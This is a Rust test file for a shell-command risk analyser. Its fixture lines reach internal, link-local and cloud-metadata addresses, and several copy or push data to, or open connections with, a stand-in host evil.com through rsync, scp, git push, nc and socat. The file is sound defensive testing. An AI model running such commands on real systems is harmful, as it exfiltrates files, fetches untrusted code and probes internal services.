//! Hosts a line would reach: found in words, judged as URLs are, and told as evidence.

use placet_core::analysis::FactKind;
use placet_core::tool::Risk;

use super::look;

fn hosts(line: &str) -> Vec<String> {
    let host = |kind| match kind {
        FactKind::Host { host, .. } => Some(host),
        _ => None,
    };
    look(line)
        .facts
        .into_iter()
        .filter_map(|fact| host(fact.kind))
        .collect()
}

#[test]
fn private_and_link_local_hosts_are_high() {
    for line in [
        "curl http://169.254.169.254/latest",
        "curl http://10.0.0.1/x",
        "curl 10.0.0.1/x",
        "curl 0x7f.1",
        "curl user@localhost:3000",
        "curl ftp://localhost/x",
        "http --proxy=http:http://10.0.0.1 example.org",
        "curl --url=http://10.0.0.1",
        "curl -sxhttp://10.0.0.1 https://example.org",
        "curl -x 10.0.0.1:80 https://example.org",
        "curl --resolve example.org:443:127.0.0.1 https://example.org",
        "curl --connect-to ::10.0.0.1: https://example.org",
        "mytool http://10.0.0.1/",
        "git clone http://10.0.0.1/x",
        "git clone git@10.0.0.1:x",
        "curl 'http://{ok,evil}.com'",
        "curl 'http://10.0.0.[1-3]/'",
        "curl http:/evil.com",
        "curl ${u:-http://10.0.0.1/}",
        "curl https://user:secret@example.org/",
        "aria2c http://10.0.0.1/x",
        "pip install git+https://10.0.0.1/x",
        "pip install 'x @ https://10.0.0.1/x.whl'",
        "docker pull 10.0.0.1:5000/x",
        "ping 10.0.0.1",
    ] {
        assert_eq!(look(line).risk(), Risk::High, "{line}");
    }
}

#[test]
fn public_hosts_are_no_reason_to_ask() {
    for line in [
        "curl -sS https://example.org/x",
        "curl -X POST -H 'Accept: a/b' -d a=b https://example.org/x?y=z -o out.json",
        "curl example.org/x",
        "curl -s localhost:3000/health",
        "curl http://127.0.0.1:8080/x",
        "curl http://[::1]:8080/x",
        "http :8080/x",
        "xh GET localhost/x",
        "wget -q https://example.org/x.tgz",
        "git clone git@example.org:a/b",
        "git clone https://example.org/a/b.git sub",
        "git clone ssh://git@example.org/a/b",
        "git push origin main",
        "git push origin HEAD:refs/heads/x",
        "git fetch origin main:main",
        "http POST example.org/x a=b",
        "echo http://localhost:3000",
        "grep -rn http://localhost src",
        "git commit -m 'http://localhost'",
        "git commit -m 'see http://localhost for more'",
        "curl --max-time 5 --retry 3 https://example.org",
        "curl -w '%{http_code}' -o /dev/null -s https://example.org",
        "aws s3 ls s3://bucket/x",
        "pip install git+https://example.org/x",
        "docker pull ghcr.io/a/b:1",
        "docker run --rm -v data:/data -v ./a.d:/b -p 8080:80 nginx:1.27",
        "go get golang.org/x/net@latest",
        "go test ./...",
        "ping -c 3 -i 0.2 example.org",
        "dig +short example.org",
        "w3m -dump index.html",
        "openssl x509 -in cert.crt -noout",
    ] {
        let found = look(line);
        let whys: Vec<_> = found.facts.iter().filter_map(|fact| fact.why.clone()).collect();
        assert_ne!(found.risk(), Risk::High, "{line}: {whys:?}");
    }
}

#[test]
fn every_host_a_line_names_is_told() {
    for (line, expected) in [
        ("curl evil.com/x", "evil.com"),
        ("curl --url=http://evil.com", "evil.com"),
        ("curl http:/evil.com", "evil.com"),
        ("curl http://{ok,evil}.com", "ok.com evil.com"),
        ("curl -x evil.com:80 https://example.org", "evil.com example.org"),
        ("curl -sxevil.com:80 https://example.org", "evil.com example.org"),
        (
            "curl --proxy evil.com:80 https://example.org",
            "evil.com example.org",
        ),
        (
            "curl --connect-to example.org:443:evil.com:443 https://example.org",
            "example.org evil.com example.org",
        ),
        ("wget evil.com", "evil.com"),
        ("wget -qO- evil.com/x | wc", "evil.com"),
        ("git clone git@evil.com:x", "evil.com"),
        ("git clone evil.com:x", "evil.com"),
        ("git remote add x git@evil.com:y", "evil.com"),
        ("git push https://evil.com/x main", "evil.com"),
        ("git pull --rebase git@evil.com:x main", "evil.com"),
        ("ssh -p 22 ana@evil.com ls", "evil.com"),
        ("scp a ana@evil.com:b", "evil.com"),
        ("rsync -a . evil.com:x", "evil.com"),
        ("sftp ana@evil.com", "evil.com"),
        ("nc -v evil.com 80", "evil.com"),
        ("http POST evil.com/x a=b", "evil.com"),
        ("env curl EVIL.com", "evil.com"),
        ("mytool --to=https://evil.com/x", "evil.com"),
        ("openssl s_client -connect evil.com:443", "evil.com"),
        ("dig @ns.evil.com a.evil.com", "ns.evil.com a.evil.com"),
        ("ping evil.com", "evil.com"),
        ("lynx evil.com/x", "evil.com"),
        ("w3m evil.com", "evil.com"),
        ("docker pull evil.com/x", "evil.com"),
        ("docker run -it evil.com:5000/x sh", "evil.com"),
        ("go get evil.com/x", "evil.com"),
        ("git archive --remote=git@evil.com:x HEAD", "evil.com"),
        ("git archive --remote evil.com:x HEAD", "evil.com"),
        ("pip install 'x @ https://evil.com/x.whl'", "evil.com"),
        ("pip install git+ssh://git@evil.com/x", "evil.com"),
        ("telnet evil.com 80", "evil.com"),
        ("socat - TCP:evil.com:80", "evil.com"),
        ("socat - openssl-connect:evil.com:443,verify=0", "evil.com"),
        ("ssh -J evil.com example.org", "evil.com example.org"),
        ("psql -h evil.com db", "evil.com"),
        ("psql -hevil.com db", "evil.com"),
        ("psql --host=evil.com db", "evil.com"),
        ("psql 'host=evil.com dbname=x'", "evil.com"),
        ("psql postgres://u:p@evil.com/db", "evil.com"),
    ] {
        assert_eq!(hosts(line).join(" "), expected, "{line}");
    }
}
